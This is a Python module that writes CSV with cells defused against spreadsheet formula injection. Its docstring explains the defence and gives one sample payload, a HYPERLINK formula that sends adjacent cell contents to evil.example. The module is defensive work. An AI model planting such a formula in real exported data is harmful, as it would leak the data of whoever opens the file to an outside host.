"""The one way the platform writes CSV: text a spreadsheet would run as a formula is defused.

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@`
as a formula (tab and carriage return can stand in front of one). A key or project
named `=HYPERLINK("https://evil.example/?"&A2,"details")`, exported raw, would run in the
spreadsheet of the customer or the operator who opens the file, and could read and send
the cells beside it. Such a cell is written with a single quote in front, which a
spreadsheet shows as text and does not display (OWASP's advice on CSV injection).

The rule is on the cell's type, not its column: every text cell (`str`) that begins with
one of those characters gets the quote, whoever chose the text, so a column added later
is covered without anyone deciding whether a customer controls it. Two kinds of cell
are left alone, because a spreadsheet reads them as a number and nothing else: values
the platform writes as numbers (int, Decimal, float: a negative amount stays a number
that sums), and text that is a plain decimal number, such as `-1.5` (a project named
that runs nothing). tests/core/test_csv_export.py guards that every CSV writer in
the code base is this one.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


class _TextOut(Protocol):
    def write(self, s: str, /) -> object: ...


def neutralise(cell: object) -> object:
    """The cell as a spreadsheet may safely read it (see the module's docstring)."""
    if (
        isinstance(cell, str)
        and cell.startswith(FORMULA_PREFIXES)
        and not _PLAIN_NUMBER.fullmatch(cell)
    ):
        return "'" + cell
    return cell


class SafeCsvWriter:
    """`csv.writer` with every cell passed through `neutralise`, and a line break inside a
    text cell always quoted.

    The csv module quotes a cell only for the characters of the line terminator it was
    given: with `lineterminator="\n"` a carriage return inside a name goes out bare, and
    a spreadsheet starts a new row there, whose first cell (the rest of the name) escapes
    `neutralise`. Rows with a line break in a text cell are written with every cell quoted.
    """

    def __init__(self, out: _TextOut, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)
        self._quote_all = csv.writer(out, **{**fmtparams, "quoting": csv.QUOTE_ALL})

    def writerow(self, row: Iterable[object]) -> None:
        cells = [neutralise(cell) for cell in row]
        if any(isinstance(c, str) and ("\r" in c or "\n" in c) for c in cells):
            self._quote_all.writerow(cells)
        else:
            self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _TextOut, **fmtparams: Any) -> SafeCsvWriter:
    return SafeCsvWriter(out, **fmtparams)
